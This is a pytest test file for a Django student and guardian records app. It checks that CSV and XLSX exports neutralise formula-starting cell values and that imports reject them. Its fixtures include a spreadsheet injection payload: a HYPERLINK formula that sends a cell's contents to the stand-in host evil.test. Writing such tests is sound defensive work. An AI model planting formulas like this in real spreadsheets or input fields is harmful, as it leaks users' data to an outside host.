"""No exported cell is a live formula; an exported file imports back to the same values."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from students.models import Classroom, Guardian, Student
from students.resources import escape_cell, unescape_cell
from tests.students.test_import_export import (
    EXPORTED_HEADER,
    confirm,
    csv_upload,
    export,
    invalid,
    to_write,
    upload,
    upload_dir,  # noqa: F401 (the library's temporary upload goes to tmp_path)
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def client(admin_client):
    admin_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return admin_client


@pytest.fixture
def hostile(db):
    """Rows written before names were checked (or straight into the database)."""
    classroom = Classroom.objects.create(name="@TK A")
    student = Student.objects.create(
        nis="-0001",
        full_name='==HYPERLINK("http://evil.test/?x="&A2,"klik")',
        classroom=classroom,
    )
    for relation, name, phone in [
        ("ayah", "\t=1+1", "+6281234567890"),
        ("ibu", "@Ibu", "-0812"),
        ("wali", "=Nenek", "=6281311112222"),
    ]:
        Guardian.objects.create(student=student, relation=relation, name=name, phone=phone)
    return student


def hostile_values(student):
    guardians = [
        value
        for guardian in student.guardians.order_by("pk")
        for value in (guardian.name, guardian.phone)
    ]
    return [student.nis, student.full_name, student.classroom.name, *guardians]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1", "'", "Nur'aini", "Aisyah", ""],
)
def test_unescape_gives_back_every_escaped_value(value):
    escaped = escape_cell(value)

    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == value


def test_a_value_without_a_formula_start_is_exported_as_it_is():
    assert escape_cell("Nur'aini") == "Nur'aini"
    assert escape_cell("'Aisyah") == "'Aisyah"
    assert unescape_cell("'Aisyah") == "'Aisyah"


def test_csv_export_puts_an_apostrophe_before_every_formula(client, hostile):
    response = export(client, "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows == [EXPORTED_HEADER, ["'" + value for value in hostile_values(hostile)]]


def test_xlsx_export_stores_text_never_a_formula(client, hostile):
    response = export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
    assert [cell.value for cell in cells[len(EXPORTED_HEADER) :]] == [
        "'" + value for value in hostile_values(hostile)
    ]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_file_imports_back_to_the_same_values(
    client, classroom, make_student, make_guardian, kind
):
    student = make_student("6281234567890", name="Nur'aini")
    make_guardian(student, "ayah", "0813-1111-2222", name="'-Bapak")
    # Values a name may hold that the export escapes: an apostrophe before a formula start.
    Student.objects.filter(pk=student.pk).update(nis="-0001", full_name="'=Aisyah")
    Guardian.objects.filter(relation="ibu").update(name="''+Ibu", phone="+62 812-3456-7890")
    before = list(Guardian.objects.order_by("pk").values())
    content = export(client, kind).content

    preview = upload(client, SimpleUploadedFile(f"students.{kind}", content))

    assert to_write(preview) == {2: "update"}
    confirm(client, preview)
    student = Student.objects.get()
    assert (student.nis, student.full_name) == ("-0001", "'=Aisyah")
    # Names back as they were; numbers too, as stored ("+62 812-…" is 6281234567890).
    assert list(Guardian.objects.order_by("pk").values()) == before
    assert [(g.relation, g.name) for g in Guardian.objects.order_by("pk")] == [
        ("ibu", "''+Ibu"),
        ("ayah", "'-Bapak"),
    ]


def test_a_formula_name_in_an_import_is_a_row_error(client, classroom):
    rows = [
        ["N001", '=HYPERLINK("http://evil.test","klik")', "TK A Melati", "Ibu Siti", ""],
        ["N002", "Budi", "TK A Melati", "@Bapak", ""],
        ["N003", "Citra\u200bLestari", "TK A Melati", "", ""],
    ]

    preview = upload(client, csv_upload(rows))

    errors = {
        row: [reason.split(":")[0] for reason in reasons]
        for row, reasons in invalid(preview).items()
    }
    assert errors == {2: ["Full name"], 3: ["Parent's name"], 4: ["Full name"]}
    assert "confirm_form" not in preview.context
    assert not Student.objects.exists()


def test_a_formula_in_a_guardian_column_is_a_row_error(client, classroom):
    rows = [
        ["N001", "Aisyah", "TK A Melati", "=1+1", "", "", "", "", ""],
        ["N002", "Budi", "TK A Melati", "", "", "@Ibu", "0812-3456-7890", "", ""],
        ["N003", "Citra", "TK A Melati", "", "", "", "", "-Nenek", "+1 555 0100"],
    ]

    preview = upload(client, csv_upload(rows, header=EXPORTED_HEADER))

    errors = {
        row: [reason.split(":")[0] for reason in reasons]
        for row, reasons in invalid(preview).items()
    }
    assert errors == {
        2: ["Father's name"],
        3: ["Mother's name"],
        4: ["Guardian's name", "Guardian's WhatsApp number"],
    }
    assert not Student.objects.exists() and not Guardian.objects.exists()


def test_old_names_with_control_characters_still_export(client, classroom, make_student):
    make_student(name="Aisyah\x1bPutri", parent_name="Ibu\nSiti", relation="ibu")

    csv_rows = list(
        csv.reader(io.StringIO(export(client, "csv").content.decode("utf-8-sig"), newline=""))
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content)).active

    # Columns 2, 3 and 6: the name, the class and the mother's name.
    assert [csv_rows[1][i] for i in (1, 2, 5)] == ["Aisyah\x1bPutri", "TK A Melati", "Ibu\nSiti"]
    # XLSX cannot hold ESC: U+FFFD instead, which an import of the file then refuses.
    assert [sheet[2][i].value for i in (1, 2, 5)] == [
        "Aisyah\ufffdPutri",
        "TK A Melati",
        "Ibu\nSiti",
    ]
